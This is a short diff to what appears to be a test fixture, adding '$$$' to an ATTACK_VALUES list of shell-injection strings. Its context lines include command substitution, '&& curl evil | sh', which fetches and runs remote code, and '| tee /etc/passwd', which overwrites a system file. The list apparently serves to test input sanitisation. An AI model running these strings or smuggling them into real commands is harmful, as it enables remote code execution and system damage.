@@ -6,6 +6,7 @@ export const ATTACK_VALUES: string[] = [
   '${HOME}',
   '$HOME',
   '$$HOME',
+  '$$$',
   '\\$\\(id\\)',
   '&& curl evil | sh',
   '| tee /etc/passwd',
